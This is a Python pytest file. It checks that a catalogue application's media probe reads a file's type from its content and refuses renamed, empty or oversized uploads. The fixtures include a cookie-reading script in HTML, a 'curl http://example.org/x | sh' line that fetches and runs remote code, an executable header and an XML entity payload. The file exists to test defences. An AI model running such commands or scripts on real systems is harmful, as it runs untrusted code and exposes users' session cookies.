"""The type of a media file is read from its content, never from its name."""

from __future__ import annotations

from pathlib import Path

import pytest

from catalogue.content.fields import FieldError
from catalogue.media.probe import KINDS, content_type, probe
from tests.media import pictures

MATERIALS, IMAGES = KINDS["materials"], KINDS["images"]


@pytest.mark.parametrize(
    ("make", "expected"),
    [
        (lambda p: pictures.pdf(p / "plan.pdf"), "pdf"),
        (lambda p: pictures.odt(p / "plan.odt"), "odt"),
        (
            lambda p: pictures.odt(p / "t.ods", "application/vnd.oasis.opendocument.spreadsheet"),
            "ods",
        ),
        (
            lambda p: pictures.odt(p / "s.odp", "application/vnd.oasis.opendocument.presentation"),
            "odp",
        ),
        (lambda p: pictures.ooxml(p / "plan.docx", "docx"), "docx"),
        (lambda p: pictures.ooxml(p / "budget.xlsx", "xlsx"), "xlsx"),
        (lambda p: pictures.ooxml(p / "slides.pptx", "pptx"), "pptx"),
        (lambda p: pictures.picture(p / "poster.png"), "png"),
        (lambda p: pictures.picture(p / "poster.jpg", kind="JPEG"), "jpeg"),
    ],
)
def test_every_allowed_material_is_recognised_from_its_content(
    tmp_path: Path, make: object, expected: str
) -> None:
    path = make(tmp_path)  # type: ignore[operator]
    assert probe(path, MATERIALS, path.name).type == expected


def test_the_name_does_not_decide_a_docx_named_pdf_is_a_docx(tmp_path: Path) -> None:
    path = pictures.ooxml(tmp_path / "plan.pdf", "docx")
    assert content_type(path) == "docx"


@pytest.mark.parametrize(
    ("content", "found"),
    [
        (b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>", "text/html"),
        (b"#!/bin/sh\ncurl http://example.org/x | sh\n", "unknown"),
        (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00", "application"),
    ],
)
def test_html_or_a_script_renamed_pdf_is_refused(
    tmp_path: Path, content: bytes, found: str
) -> None:
    path = tmp_path / "plan.pdf"
    path.write_bytes(content)
    with pytest.raises(FieldError, match=f"its content is {found}"):
        probe(path, MATERIALS, "plan.pdf")


def test_a_zip_that_is_no_office_file_is_refused(tmp_path: Path) -> None:
    path = pictures._zip(tmp_path / "plan.docx", {"readme.txt": "hello"})
    with pytest.raises(FieldError, match="application/zip"):
        probe(path, MATERIALS, "plan.docx")


def test_an_office_file_must_hold_the_part_it_declares(tmp_path: Path) -> None:
    path = pictures.ooxml(tmp_path / "plan.docx", with_part=False)
    with pytest.raises(FieldError, match="not one of the types allowed"):
        probe(path, MATERIALS, "plan.docx")


def test_content_types_with_entities_are_not_parsed(tmp_path: Path) -> None:
    bomb = '<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaaaaaaaa">]><Types>&a;</Types>'
    path = pictures._zip(tmp_path / "plan.docx", {"[Content_Types].xml": bomb})
    assert content_type(path) == "application/zip"


def test_a_pdf_is_no_image(tmp_path: Path) -> None:
    with pytest.raises(FieldError, match="JPEG, PNG, WebP"):
        probe(pictures.pdf(tmp_path / "photo.jpg"), IMAGES, "photo.jpg")


def test_sizes_are_limited_per_field(tmp_path: Path) -> None:
    path = tmp_path / "big.pdf"
    with path.open("wb") as handle:
        handle.write(b"%PDF-1.4\n")
        handle.truncate(10_500_000)
    assert probe(path, MATERIALS, "big.pdf").size == 10_500_000
    path.write_bytes(b"%PDF-1.4\n" + b"0" * 20_000_001)
    with pytest.raises(FieldError, match="at most 20 MB"):
        probe(path, MATERIALS, "big.pdf")
    image = pictures.picture(tmp_path / "big.png")
    with image.open("ab") as handle:
        handle.truncate(10_000_001)
    with pytest.raises(FieldError, match="at most 10 MB"):
        probe(image, IMAGES, "big.png")


def test_an_empty_file_is_refused(tmp_path: Path) -> None:
    (tmp_path / "empty.pdf").write_bytes(b"")
    with pytest.raises(FieldError, match="is empty"):
        probe(tmp_path / "empty.pdf", MATERIALS, "empty.pdf")
